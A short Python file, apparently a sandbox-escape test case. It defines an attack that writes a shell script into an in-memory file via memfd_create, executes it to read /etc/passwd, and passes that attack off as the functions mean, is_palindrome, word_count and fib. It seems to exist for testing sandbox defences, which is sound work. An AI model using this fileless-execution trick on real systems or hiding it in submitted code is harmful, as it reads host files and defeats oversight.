import os

from attacker import wins_if


def attack(value):
    handle = os.memfd_create("program")
    os.write(handle, b"#!/bin/sh\ncat /etc/passwd\n")
    os.execve(handle, ["program"], {})


mean = is_palindrome = word_count = fib = wins_if(attack)
